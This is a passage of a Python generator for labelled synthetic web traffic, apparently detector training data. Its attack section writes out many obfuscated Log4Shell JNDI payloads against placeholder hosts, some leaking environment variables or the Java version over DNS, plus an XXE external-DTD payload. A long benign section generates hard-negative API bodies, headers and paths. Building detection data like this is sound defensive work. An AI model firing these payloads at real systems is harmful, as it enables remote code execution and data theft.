            filename=tok() + ".kml",
            pctype="application/vnd.google-earth.kml+xml",
        )

    L.append(kml)

    def param_in_attr():
        r, e = ROOT(), ENT()
        return A(
            xxe_doc('<!ENTITY %% %s SYSTEM "http://%s/%s.dtd">%%%s;' % (e, dec_ip(aip()), tok(), e), r, tok()),
            True,
            ["xml"],
            whole=True,
        )

    L.append(param_in_attr)
    return L


def jndi_host():
    return pick([ahost(), aip(), aip() + ":" + str(pick([1389, 1099, 389, 636, 8080]))])


def g_l4s():
    L = []
    PROTO = lambda: pick(["ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "http", "nis", "nds", "corba"])
    PATH = lambda: pick(["a", tok(), "Exploit", "o=" + tok(), "Basic/Command/Base64/" + b64("id"), tok() + "/" + tok()])
    J = lambda: "${jndi:%s://%s/%s}" % (PROTO(), jndi_host(), PATH())
    L.append(lambda: A(J()))
    L.append(lambda: A("Mozilla/5.0 (compatible; " + J() + ")", False, ["header"], hdr="User-Agent"))
    L.append(lambda: A("${%s:%s://%s/%s}" % (rcase("jndi"), rcase(PROTO()), jndi_host(), PATH()), True))

    def lowerlk():
        fn = pick(["lower", "upper"])
        j = "".join("${%s:%s}" % (fn, c) for c in "jndi")
        return A("${%s:%s://%s/%s}" % (j, PROTO(), jndi_host(), PATH()), True)

    L.append(lowerlk)
    L.append(lambda: A("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/%s}" % (jndi_host(), PATH()), True))
    L.append(
        lambda: A(
            "${${env:%s:-j}ndi${env:%s:-:}${env:%s:-l}dap${env:%s:-:}//%s/%s}"
            % (
                pick(["NaN", "BARFOO", "X"]),
                pick(["NaN", "Y"]),
                pick(["NaN", "Z"]),
                pick(["NaN", "W"]),
                jndi_host(),
                PATH(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            "${jndi:%s://${env:%s}.%s/%s}" % (pick(["ldap", "dns"]), pick(ENVV + ["USER", "HOSTNAME"]), ahost(), tok())
        )
    )
    L.append(
        lambda: A(
            "${jndi:dns://${%s}.%s}"
            % (pick(["hostName", "sys:java.version", "sys:user.name", "java:os", "env:USER"]), ahost())
        )
    )
    L.append(
        lambda: A("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:%s://%s/%s}" % (PROTO(), jndi_host(), PATH()), True)
    )
    L.append(lambda: A("${j${k8s:k5:-ND}i:%s://%s/%s}" % (PROTO(), jndi_host(), PATH()), True))
    L.append(lambda: A("${${sys:%s:-j}ndi:%s://%s/%s}" % (alpha(3, 6), PROTO(), jndi_host(), PATH()), True))
    L.append(lambda: A("${jndi:ldap://127.0.0.1#%s:%d/%s}" % (ahost(), pick([1389, 389, 443]), tok()), True))
    L.append(lambda: A("%24%7Bjndi%3A" + PROTO() + "%3A%2F%2F" + ahost() + "%2F" + tok() + "%7D", True))
    L.append(lambda: A("${jndi:${lower:l}${lower:d}a${lower:p}://%s/%s}" % (jndi_host(), PATH()), True))
    L.append(lambda: A("${${lower:${lower:jndi}}:%s://%s/%s}" % (PROTO(), jndi_host(), PATH()), True))
    L.append(lambda: A("${jndi:ldap://%s/${java:%s}}" % (ahost(), pick(["version", "runtime", "vm", "os", "locale"]))))
    L.append(lambda: A("${${ctx:%s:-j}ndi:%s://%s/%s}" % (alpha(2, 5), PROTO(), jndi_host(), PATH()), True))
    L.append(lambda: A("Bearer " + J(), False, ["header"], hdr="Authorization"))
    L.append(lambda: A(S("<<u>> logged in ${jndi:<<p>>://<<h>>/<<t>>}", u=first(), p=PROTO(), h=jndi_host(), t=PATH())))
    L.append(lambda: A("${${upper:j}ndi:${upper:l}dap://%s/%s}" % (jndi_host(), PATH()), True))
    L.append(lambda: A("${${main:%s:-j}ndi:%s://%s/%s}" % (alpha(2, 4), PROTO(), jndi_host(), PATH()), True))
    L.append(lambda: A("${jndi:${::-l}${::-d}${::-a}${::-p}://%s/%s}" % (jndi_host(), PATH()), True))
    L.append(
        lambda: A(
            "${${env:ENV_NAME:-j}n${env:ENV_NAME:-d}i${env:ENV_NAME:-:}${env:ENV_NAME:-r}mi${env:ENV_NAME:-:}//%s/%s}"
            % (jndi_host(), PATH()),
            True,
        )
    )
    L.append(lambda: A("${jnd${::-i}:%s://%s/%s}" % (PROTO(), jndi_host(), PATH()), True))
    L.append(lambda: A("${j${::-n}di:%s://%s/%s}" % (PROTO(), jndi_host(), PATH()), True))
    L.append(lambda: A(tok() + "${jndi:%s://%s/%s}" % (PROTO(), jndi_host(), PATH()) + tok()))
    L.append(lambda: A("$%7Bjndi:" + PROTO() + "://" + ahost() + "/" + tok() + "%7D", True))
    return L


ATTACK_GENS = [
    ("java_injection", g_java),
    ("php_injection", g_php),
    ("code_injection", g_code),
    ("rfi", g_rfi),
    ("ssrf", g_ssrf),
    ("rce", g_rce),
    ("sqli", g_sqli),
    ("nosqli", g_nosqli),
    ("ldapi", g_ldapi),
    ("ssti", g_ssti),
    ("crlf", g_crlf),
    ("mail_injection", g_mail),
    ("xss", g_xss),
    ("path_traversal", g_pt),
    ("xxe", g_xxe),
    ("log4shell", g_l4s),
]


# ==========================================================================
# benign generators
# ==========================================================================

LANGS_PROG = ["Go", "Python", "TypeScript", "Rust", "Kotlin", "Ruby", "Elixir", "C#", "Java", "Swift"]
HOBBIES = [
    "trail running",
    "sourdough",
    "bouldering",
    "film photography",
    "chess",
    "birding",
    "cycling",
    "pottery",
    "board games",
    "gardening",
]
ROLES = [
    "Backend engineer",
    "Product designer",
    "Data analyst",
    "SRE",
    "Support lead",
    "QA engineer",
    "Engineering manager",
    "Frontend dev",
]
PRODUCTS = [
    "Drop-leaf oak table",
    "Union Jack enamel mug",
    "Select Comfort pillow",
    "Trail runner GTX",
    "Linen duvet cover",
    'Cast iron skillet 10"',
    "USB-C hub (7-in-1)",
    "Merino beanie",
    "Ceramic pour-over set",
    "Noise-cancelling headphones",
    "Bamboo cutting board",
    "Standing desk frame",
    "Wool rug 6' x 9'",
    "Rechargeable headlamp",
    "Script lettering pen set",
    "Kids' rain boots",
    "Ben & Jerry's gift card",
    "Alert 2.0 smoke detector",
    "Exec chair (mesh)",
    '1/4" drill bit set',
]


def g_b_api():
    L = []
    L.append(
        lambda: A(
            "%s at %s. I mostly write %s and enjoy %s."
            % (pick(ROLES), pick(COMPANIES), pick(LANGS_PROG), pick(HOBBIES)),
            False,
            ["json", "form", "multipart"],
            param="bio",
        )
    )
    L.append(lambda: A(person(), False, ["json", "form", "query"], param=pick(["displayName", "full_name", "name"])))
    L.append(
        lambda: OBJ(
            {
                "email": R.random() < 0.5,
                "sms": R.random() < 0.3,
                "digest": pick(["daily", "weekly", "never"]),
                "quietHours": {"start": "%02d:00" % ri(20, 23), "end": "%02d:00" % ri(6, 9)},
            },
            False,
            ["json", "multipart"],
            param="notifications",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "status": R.sample(["open", "pending", "resolved", "closed"], 2),
                "assignee": pick(["me", "unassigned", first()]),
                "updated_after": date(),
            },
            False,
            ["json", "query"],
            param="filters",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "line1": "%d %s"
                % (
                    ri(1, 999),
                    pick(["Maple Ave", "Harbour Rd", "Rue des Lilas", "Kingsway", "Calle Mayor", "Station Road"]),
                ),
                "line2": pick(
                    ["", "Apt #%d%s" % (ri(1, 40), pick("ABCD")), "Suite %d" % ri(100, 900), "c/o " + person()]
                ),
                "city": pick(CITIES),
                "postalCode": "%05d" % ri(1000, 99999),
                "country": pick(["PT", "JP", "CA", "KE", "PL", "US", "AU", "NO"]),
            },
            False,
            ["json"],
            param="shipping_address",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "name": pick(["checkout_started", "page_view", "search_performed", "video_played", "signup_completed"]),
                "ts": ts() * 1000 + ri(0, 999),
                "props": {
                    "path": pick(REFS),
                    "referrer": pick(["google", "direct", "newsletter"]),
                    "value": round(R.uniform(1, 300), 2),
                },
            },
            False,
            ["json"],
            param="event",
        )
    )
    L.append(
        lambda: A(
            pick(["$schema", "$id", "$ref", "$defs", "$comment", "@context", "@type", "@id", "@graph", "@vocab"]),
            True,
            ["json_key"],
            kval=pick(
                [
                    "https://json-schema.org/draft/2020-12/schema",
                    "#/$defs/address",
                    "https://schema.org",
                    "Product",
                    "https://example.com/schemas/order.json",
                ]
            ),
        )
    )
    L.append(
        lambda: A(
            pick(["en-GB", "pt-BR", "de-AT", "fr-CA", "ja-JP", "es-MX"]) + pick(["", ".title", ".description", ".cta"]),
            False,
            ["json_key", "query_key"],
            kval=pick(["Save changes", "Guardar", "Speichern", "Enregistrer"]),
        )
    )
    L.append(
        lambda: A(
            "feature."
            + pick(["dark_mode", "new_checkout", "beta_search", "inline_editing", "ai_summaries"])
            + pick(["", ".enabled", ".rollout"]),
            False,
            ["json_key"],
            kval=pick([True, False, 50, 100]),
        )
    )
    L.append(lambda: A(date(), False, ["json_key"], kval=ri(0, 5000)))
    L.append(
        lambda: A(
            pick(
                [
                    "filters[title][$contains]",
                    "filters[price][$lte]",
                    "filters[category][slug][$eq]",
                    "filters[publishedAt][$notNull]",
                    "filters[$or][0][title][$containsi]",
                    "filters[tags][name][$in][0]",
                ]
            ),
            True,
            ["query_key"],
            kval=pick(["hello", "49.99", "shoes", "true", "summer", "news"]),
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "populate[author][fields][0]",
                    "pagination[page]",
                    "pagination[pageSize]",
                    "sort[0]",
                    "fields[articles]",
                    "page[size]",
                    "page[number]",
                    "filter[status]",
                    "include",
                    "fields[people]",
                ]
            )
            + pick(["", ""]),
            False,
            ["query_key"],
            kval=pick(["name", "2", "25", "createdAt:desc", "title,body", "published"]),
        )
    )
    L.append(
        lambda: OBJ(
            {
                "bool": {
                    "must": [
                        {"match": {"title": pick(["wireless headphones", "oak table", "rain jacket", "standing desk"])}}
                    ],
                    "filter": [
                        {"range": {"price": {"gte": ri(5, 50), "lte": ri(60, 400)}}},
                        {"term": {"in_stock": True}},
                    ],
                }
            },
            True,
            ["json"],
            param="query",
        )
    )
    L.append(
        lambda: OBJ(
            {"_and": [{"status": {"_eq": pick(["active", "trialing"])}}, {"created_at": {"_gte": date()}}]},
            True,
            ["json"],
            param="where",
        )
    )
    L.append(
        lambda: OBJ(
            {"OR": [{"email": {"contains": alpha(2, 4)}}, {"name": {"startsWith": first().title()[:2]}}]},
            True,
            ["json"],
            param="where",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "theme": pick(["dark", "light", "system"]),
                "density": pick(["compact", "comfortable"]),
                "shortcuts": {"search": "/", "newIssue": pick(["c", "n"])},
                "sidebarCollapsed": R.random() < 0.5,
            },
            False,
            ["json", "multipart"],
            param="settings",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "url": "https://hooks.%s/%s/%s"
                % (
                    pick(["northwind-labs.io", "harborline.co", "zapier.com"]),
                    pick(["orders", "incoming", "hooks/catch"]),
                    tok(8, 12),
                ),
                "events": R.sample(
                    ["order.created", "order.paid", "order.refunded", "customer.updated", "invoice.sent"], 2
                ),
                "secret": "whsec_" + tok(24, 24),
            },
            False,
            ["json"],
            param="webhook",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": {"name": pick(WORDS) + "-config", "namespace": pick(["default", "prod", "staging"])},
                "data": {"LOG_LEVEL": pick(["info", "debug"]), "FEATURE_FLAGS": "search,export"},
            },
            False,
            ["json"],
            whole=True,
        )
    )
    L.append(
        lambda: OBJ(
            {
                "metric": pick(["cpu.load", "mem.used_pct", "http.p95_ms", "queue.depth"]),
                "points": [[ts(), round(R.uniform(0, 100), 2)] for _ in range(ri(2, 4))],
                "tags": ["env:" + pick(["prod", "staging"]), "host:web-%d" % ri(1, 12)],
            },
            False,
            ["json"],
            param="series",
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    'I\'d say "ship it" - tests pass on 3.11 & 3.12.',
                    "LGTM, but can we rename `getUserData()` to `fetchProfile()`?",
                    "Moved to Q%d; blocked on the vendor's API (they're on v%d)." % (ri(1, 4), ri(2, 5)),
                    "Works for me :) closing #%d" % ri(100, 9999),
                    "Reopening - still seeing 502s from the EU region after %d:%02d UTC." % (ri(0, 23), ri(0, 59)),
                ]
            )
            + pick(["", " Thanks!", " cc @" + first()]),
            False,
            ["json", "form"],
            param="comment",
        )
    )
    L.append(
        lambda: A(
            "Please update the record where id = %d and set status to 'closed'; the customer asked us to drop the old address."
            % ri(100, 99999),
            True,
            ["json", "form"],
            param="note",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "lat": round(R.uniform(-60, 70), 5),
                "lng": round(R.uniform(-170, 170), 5),
                "accuracy": round(R.uniform(3, 60), 1),
            },
            False,
            ["json"],
            param="location",
        )
    )
    L.append(
        lambda: OBJ(
            [
                {"op": "replace", "path": "/email", "value": email_addr()},
                {"op": pick(["add", "remove"]), "path": "/tags/%d" % ri(0, 3), "value": pick(WORDS)},
            ],
            True,
            ["json"],
            whole=True,
            ctype="application/json-patch+json",
            method="PATCH",
        )
    )
    L.append(
        lambda: A(
            ",".join(
                R.sample(["id", "name", "email", "created_at", "updated_at", "status", "plan", "avatar_url"], ri(2, 5))
            ),
            False,
            ["query", "form"],
            param="fields",
        )
    )
    L.append(
        lambda: A(
            ",".join(R.sample(["author", "comments", "comments.author", "tags", "attachments", "owner"], ri(1, 3))),
            False,
            ["query"],
            param="include",
        )
    )
    L.append(lambda: A(b64u(compact({"id": ri(1000, 99999), "ts": ts()})), False, ["query", "json"], param="cursor"))
    L.append(lambda: A("%sT00:00:00Z/%sT23:59:59Z" % (date(), date()), False, ["query", "json"], param="interval"))
    L.append(
        lambda: OBJ(
            R.sample(
                [
                    "urgent",
                    "billing",
                    "bug",
                    "feature-request",
                    "ios",
                    "android",
                    "wontfix",
                    "good first issue",
                    "needs-triage",
                ],
                ri(2, 4),
            ),
            False,
            ["json"],
            param="labels",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "sku": "SKU-%d-%s" % (ri(1000, 9999), pick(["BLK", "WHT", "RED"])),
                "qty": ri(1, 5),
                "price": {"amount": ri(199, 99999), "currency": pick(["EUR", "USD", "GBP"])},
            },
            False,
            ["json"],
            param="item",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "select": ["id", "title", "status"],
                "where": {"status": "published"},
                "orderBy": {"updatedAt": "desc"},
                "take": ri(10, 50),
            },
            True,
            ["json"],
            whole=True,
        )
    )
    return L


def g_b_headers():
    L = []
    L.append(
        lambda: A(ua_browser(), False, ["header", "query", "json"], hdr="User-Agent", param=pick(["ua", "userAgent"]))
    )
    L.append(
        lambda: A(
            pick(
                [
                    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
                    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                    "WhatsApp/2.24.%d.%d A" % (ri(1, 24), ri(1, 80)),
                    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.%d; Pro)" % ri(10000, 17999),
                    "Dalvik/2.1.0 (Linux; U; Android %d; Pixel %d Build/UD1A.%d.004)"
                    % (ri(11, 14), ri(5, 8), ri(230000, 231231)),
                    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
                    "Twitterbot/1.0",
                    "Discordbot/2.0; +https://discordapp.com",
                ]
            ),
            True,
            ["header"],
            hdr="User-Agent",
        )
    )
    L.append(
        lambda: A(
            pick(LANGS)
            if R.random() < 0.3
            else ",".join(
                "%s;q=0.%d" % (l, q)
                for l, q in zip(
                    R.sample(["en-US", "en", "de", "fr", "es", "it", "pt", "nl", "sv", "zh-CN"], 3), [9, 8, 7]
                )
            ),
            False,
            ["header", "query"],
            hdr="Accept-Language",
            param="lang",
        )
    )
    L.append(lambda: A("Bearer " + jwt(), False, ["header"], hdr="Authorization"))
    L.append(lambda: A("Basic " + b64("%s:%s" % (first(), tok(10, 16))), False, ["header"], hdr="Authorization"))
    L.append(
        lambda: A(
            "AWS4-HMAC-SHA256 Credential=AKIA%s/%s/%s/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=%s"
            % (
                "".join(R.choice(string.ascii_uppercase + string.digits) for _ in range(16)),
                date().replace("-", ""),
                pick(["eu-west-1", "us-east-1", "ap-northeast-1"]),
                hexs(64),
            ),
            True,
            ["header"],
            hdr="Authorization",
        )
    )
    L.append(
        lambda: A(
            pick(['W/"%s"' % hexs(ri(16, 40)), '"%s"' % hexs(40), '"%d-%s"' % (ri(100, 9999), hexs(12))]),
            False,
            ["header"],
            hdr=pick(["If-None-Match", "If-Match"]),
        )
    )
    L.append(
        lambda: A(
            "%s, %02d Dec 2026 %02d:%02d:%02d GMT"
            % (pick(["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]), ri(1, 28), ri(0, 23), ri(0, 59), ri(0, 59)),
            False,
            ["header"],
            hdr=pick(["If-Modified-Since", "If-Unmodified-Since"]),
        )
    )
    L.append(
        lambda: A(
            ", ".join(
                [aip(), "10.%d.%d.%d" % (ri(0, 255), ri(0, 255), ri(1, 254))]
                + (["2001:db8::%x" % ri(1, 65535)] if R.random() < 0.3 else [])
            ),
            False,
            ["header"],
            hdr="X-Forwarded-For",
        )
    )
    L.append(lambda: A("for=%s;proto=https;by=%s" % (aip(), aip()), False, ["header"], hdr="Forwarded"))
    L.append(
        lambda: A(
            "00-%s-%s-0%d" % (hexs(32), hexs(16), ri(0, 1)),
            False,
            ["header", "json"],
            hdr="traceparent",
            param="traceparent",
        )
    )
    L.append(lambda: A("rojo=%s,congo=%s" % (hexs(16), b64u(rbytes(8))), False, ["header"], hdr="tracestate"))
    L.append(
        lambda: A(
            "userId=%s,serverNode=DF%%20%d,isProduction=%s" % (first(), ri(1, 40), pick(["true", "false"])),
            True,
            ["header"],
            hdr="baggage",
        )
    )
    L.append(
        lambda: A(
            '"Chromium";v="%d", "Google Chrome";v="%d", "Not-A.Brand";v="%d"'
            % ((lambda v: (v, v, pick([8, 24, 99])))(ri(118, 131))),
            True,
            ["header"],
            hdr="sec-ch-ua",
        )
    )
    L.append(
        lambda: A(
            '"%s"' % pick(["Windows", "macOS", "Android", "Linux", "Chrome OS", "iOS"]),
            False,
            ["header"],
            hdr=pick(["sec-ch-ua-platform", "Sec-CH-UA-Platform"]),
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "no-cache",
                    "no-cache, no-store, must-revalidate",
                    "max-age=0",
                    "max-age=%d, stale-while-revalidate=%d" % (ri(60, 3600), ri(30, 600)),
                ]
            ),
            False,
            ["header"],
            hdr="Cache-Control",
        )
    )
    L.append(
        lambda: A(
            "bytes=%d-%d" % ((lambda a: (a, a + ri(1023, 1048575)))(ri(0, 5000000))), False, ["header"], hdr="Range"
        )
    )
    L.append(
        lambda: A(
            "https://%s%s"
            % (
                pick(APP_HOSTS),
                pick(
                    [
                        "/search?q=%s+%s&page=2"
                        % (
                            pick(["select", "union", "drop", "script", "exec"]),
                            pick(["plan", "station", "shipping", "writing", "chair"]),
                        ),
                        "/blog/%d/%02d/%s"
                        % (
                            ri(2019, 2026),
                            ri(1, 12),
                            pick(["select-the-right-plan", "drop-shipping-101", "union-membership-faq"]),
                        ),
                        "/products?utm_source=newsletter&utm_campaign=%s" % pick(WORDS),
                    ]
                ),
            ),
            True,
            ["header"],
            hdr="Referer",
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "return=representation",
                    "return=minimal",
                    "respond-async, wait=%d" % ri(5, 60),
                    "odata.maxpagesize=%d" % pick([25, 50, 100]),
                ]
            ),
            False,
            ["header"],
            hdr="Prefer",
        )
    )
    L.append(
        lambda: A(
            "1.1 %s (Varnish/7.%d)" % (hexs(12), ri(0, 5))
            if R.random() < 0.5
            else "1.1 google, 1.1 %s.cloudfront.net (CloudFront)" % hexs(14),
            False,
            ["header"],
            hdr="Via",
        )
    )
    L.append(
        lambda: A(
            "Root=1-%s-%s;Parent=%s;Sampled=%d" % (hexs(8), hexs(24), hexs(16), ri(0, 1)),
            False,
            ["header"],
            hdr="X-Amzn-Trace-Id",
        )
    )
    L.append(lambda: A("%s/%d;o=1" % (hexs(32), ri(10**15, 10**16)), False, ["header"], hdr="X-Cloud-Trace-Context"))
    L.append(lambda: A("sha256=" + hexs(64), False, ["header"], hdr=pick(["X-Hub-Signature-256", "X-Signature"])))
    L.append(lambda: A("t=%d,v1=%s" % (ts(), hexs(64)), False, ["header"], hdr="Stripe-Signature"))
    L.append(lambda: A("v0=" + hexs(64), False, ["header"], hdr="X-Slack-Signature"))
    L.append(
        lambda: A(
            uuid4(),
            False,
            ["header"],
            hdr=pick(["X-GitHub-Delivery", "X-Request-ID", "X-Correlation-ID", "Idempotency-Key"]),
        )
    )
    L.append(lambda: A("sha-256=:%s:" % b64(rbytes(32)), False, ["header"], hdr="Repr-Digest"))
    L.append(
        lambda: A(
            'Digest username="%s", realm="%s", nonce="%s", uri="/%s/index.html", qop=auth, nc=%08x, cnonce="%s", response="%s", opaque="%s"'
            % (
                first(),
                pick(["api@northwind", "staff", "testrealm@host.com"]),
                hexs(32),
                pick(["dir", "docs", "files"]),
                ri(1, 20),
                hexs(16),
                hexs(32),
                hexs(32),
            ),
            True,
            ["header"],
            hdr="Authorization",
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
                    "application/vnd.github+json",
                    "application/json;q=0.9, text/plain;q=0.5",
                    "image/avif,image/webp,*/*",
                    "application/hal+json, application/problem+json",
                    "text/csv; header=present",
                    'application/ld+json; profile="https://www.w3.org/ns/activitystreams"',
                ]
            ),
            True,
            ["header"],
            hdr="Accept",
        )
    )
    L.append(
        lambda: A("GA1.1.%d.%d" % (ri(100000000, 2147483647), ts()), False, ["cookie"], param=pick(["_ga", "_gid"]))
    )
    L.append(
        lambda: A(
            "isGDPRApplies=true&datestamp=%s+Dec+%02d+2026+%02d:%02d:%02d+GMT+0100&version=202%d.%d.0&groups=C0001:1,C0002:%d,C0003:%d,C0004:0"
            % (
                pick(["Mon", "Tue", "Wed"]),
                ri(1, 28),
                ri(0, 23),
                ri(0, 59),
                ri(0, 59),
                ri(3, 6),
                ri(1, 12),
                ri(0, 1),
                ri(0, 1),
            ),
            True,
            ["cookie"],
            param="OptanonConsent",
        )
    )
    L.append(
        lambda: A(
            compact([{"sku": "SKU-%d" % ri(1000, 9999), "qty": ri(1, 3)} for _ in range(ri(1, 3))]),
            True,
            ["cookie"],
            param="cart",
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "America/Sao_Paulo",
                    "Europe/Berlin",
                    "Asia/Kolkata",
                    "Australia/Sydney",
                    "America/Los_Angeles",
                    "Africa/Nairobi",
                    "Pacific/Auckland",
                ]
            ),
            False,
            ["cookie", "query"],
            param="tz",
        )
    )
    L.append(
        lambda: A(
            b64u(rbytes(24)) + "." + b64u(rbytes(16)),
            False,
            ["cookie"],
            param=pick(["XSRF-TOKEN", "csrftoken", "__Host-csrf"]),
        )
    )
    L.append(lambda: A(jwt(), False, ["cookie"], param=pick(["session", "access_token", "__Secure-auth"])))
    L.append(
        lambda: A(
            uuid4(), False, ["cookie"], param=pick(["__stripe_mid", "ajs_anonymous_id", "device_id", "_pk_id.1.a2f4"])
        )
    )
    L.append(lambda: A('"%s"' % uuid4(), True, ["cookie"], param="ajs_user_id"))
    L.append(
        lambda: A(
            "|".join("SKU%d" % ri(1000, 9999) for _ in range(ri(2, 5))), True, ["cookie"], param="recently_viewed"
        )
    )
    L.append(
        lambda: A(
            "theme:%s;font:%d;sidebar:%s" % (pick(["dark", "light"]), ri(12, 18), pick(["open", "closed"])),
            True,
            ["cookie"],
            param="ui_prefs",
        )
    )
    L.append(
        lambda: A(
            pick(["dark", "light", "sepia", "high-contrast"]) + "-" + pick(["compact", "cozy"]),
            False,
            ["cookie"],
            param="theme",
        )
    )
    L.append(
        lambda: A(
            "%s|%d|%s" % (hexs(16), ts(), pick(["1", "0"])),
            False,
            ["cookie"],
            param=pick(["_hjSessionUser_%d" % ri(100000, 999999), "intercom-session-" + tok(6, 8)]),
        )
    )
    L.append(
        lambda: A(
            "%d.%d.%d.%d" % (ri(1, 9), ri(1, 99), ts(), ri(1, 99)),
            False,
            ["cookie", "header"],
            param="_fbp",
            hdr="X-Client-Data",
        )
    )
    L.append(
        lambda: A(
            compact(
                {
                    "blocked-uri": pick(
                        ["inline", "eval", "https://cdn.%s/widget.js" % pick(["example.net", "trackjs.com"])]
                    ),
                    "violated-directive": pick(["script-src-elem", "style-src", "img-src"]),
                    "document-uri": "https://%s%s" % (pick(APP_HOSTS), pick(REFS)),
                }
            ),
            True,
            ["json", "query"],
            param="csp-report",
        )
    )
    L.append(
        lambda: A(
            "%d.%d.%d" % (ri(1, 6), ri(0, 30), ri(0, 99))
            + pick(["", "-beta.%d" % ri(1, 9), "+build.%d" % ri(100, 999)]),
            False,
            ["header"],
            hdr=pick(["X-Client-Version", "X-App-Version", "X-Api-Version"]),
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "gzip, deflate, br, zstd",
                    "gzip;q=1.0, identity; q=0.5, *;q=0",
                    "br;q=1.0, gzip;q=0.8, *;q=0.1",
                    "deflate, gzip;q=1.0, *;q=0.5",
                ]
            ),
            False,
            ["header"],
            hdr="Accept-Encoding",
        )
    )
    return L


SLUGS = [
    "how-to-select-a-union-contractor",
    "drop-shipping-explained",
    "script-to-screen-workshop",
    "alert-fatigue-in-on-call-teams",
    "exec-summary-template",
    "union-square-farmers-market",
    "select-the-right-running-shoe",
    "where-to-eat-in-" + "lisbon",
    "update-your-billing-details",
    "insert-molding-basics",
    "delete-vs-archive",
    "sleep-training-tips",
    "order-by-phone",
    "from-zero-to-kubernetes",
    "the-case-for-boring-tech",
    "null-island-and-other-map-oddities",
    "cat-friendly-houseplants",
    "benchmark-results-2026",
    "char-siu-bao-recipe",
    "table-manners-around-the-world",
]


def g_b_paths():
    L = []
    FP = lambda p, hard=False, places=None, **kw: A(p, hard, places or ["path"], fullpath=True, **kw)
    L.append(
        lambda: FP(
            "/api/v%d/users/%d/%s"
            % (ri(1, 3), ri(100, 99999), pick(["orders", "addresses", "sessions", "invoices", "avatar"]))
        )
    )
    L.append(lambda: FP("/blog/%d/%02d/%s" % (ri(2018, 2026), ri(1, 12), pick(SLUGS)), True))
    L.append(
        lambda: FP(
            "/files/%s (%s).%s"
            % (
                pick(["Annual Report", "Q3 summary", "Team photo", "Lease agreement", "CV"]),
                pick(["final", "v2", "signed", "2025"]),
                pick(["pdf", "docx", "jpg", "xlsx"]),
            ),
            True,
        )
    )
    L.append(
        lambda: FP(
            "/wiki/"
            + pick(
                [
                    "C++_templates",
                    "Rock_&_Roll",
                    "Special:Search",
                    "Talk:Union_(set_theory)",
                    "Select_(SQL)",
                    "Drop_(liquid)",
                    "Script_(Unicode)",
                    "AT&T",
                ]
            ),
            True,
        )
    )
    L.append(
        lambda: FP("/static/js/%s.%s.js" % (pick(["chunk-vendors", "main", "runtime", "app", "polyfills"]), hexs(8)))
    )
    L.append(
        lambda: FP(
            "/assets/%s"
            % pick(
                [
                    "fonts/Inter-var.woff2",
                    "img/hero@2x.webp",
                    "css/site.%s.css" % hexs(6),
                    "icons/sprite.svg",
                    "favicon-32x32.png",
                ]
            )
        )
    )
    L.append(
        lambda: FP(
            "/.well-known/"
            + pick(
                [
                    "openid-configuration",
                    "apple-app-site-association",
                    "security.txt",
                    "assetlinks.json",
                    "acme-challenge/" + b64u(rbytes(32)),
                    "webfinger",
                ]
            )
        )
    )
    L.append(
        lambda: FP(
            "/@%s/%s" % (first() + pick(["", str(ri(1, 99))]), pick(["posts", "followers", "likes", pick(SLUGS)]))
        )
    )
    L.append(
        lambda: FP(
            "/~%s/%s" % (first()[0] + last(), pick(["cv.html", "papers/", "teaching/cs101/", "index.html"])), True
        )
    )
    L.append(
        lambda: FP(
            "/api/v3/repos/%s/%s/contents/%s"
            % (
                pick(["acme", "octo-org", "northwind"]),
                pick(["web", "legacy-site", "cms"]),
                pick(["src/index.php", "public/wp-login.php", "cgi-bin/form.pl", "admin/config.yml", "etc/nginx.conf"]),
            ),
            True,
        )
    )
    L.append(
        lambda: FP(
            "/downloads/%s-%d.%d.%d.%s"
            % (
                pick(["setup", "client", "agent"]),
                ri(1, 9),
                ri(0, 20),
                ri(0, 9),
                pick(["exe", "msi", "dmg", "deb", "tar.gz"]),
            ),
            True,
        )
    )
    L.append(
        lambda: FP(
            "/products/%s;jsessionid=%s" % (pick(SLUGS[:6] + ["oak-table", "linen-shirt"]), hexs(32).upper()), True
        )
    )
    L.append(
        lambda: FP(
            "/catalog/%s;color=%s;size=%d"
            % (pick(["shoes", "shirts", "jackets"]), pick(["red", "navy", "black"]), ri(36, 46)),
            True,
        )
    )
    L.append(lambda: FP("/cgi-bin/koha/opac-%s.pl" % pick(["search", "detail", "user", "main"]), True))
    L.append(
        lambda: FP(
            "/docs/reference/%s"
            % pick(
                ["etc-hosts-file", "proc-filesystem", "bin-bash-vs-sh", "passwd-file-format", "windows-system32-folder"]
            ),
            True,
        )
    )
    L.append(
        lambda: FP(
            "/" + pick(["café/menu", "città/roma", "東京/新宿", "straße/karte", "niño/regalos", "søk/resultater"])
        )
    )
    L.append(
        lambda: FP(
            "/v1/projects/%s/locations/%s/functions/%s:call"
            % (
                pick(WORDS) + "-" + str(ri(100, 999)),
                pick(["us-central1", "europe-west3"]),
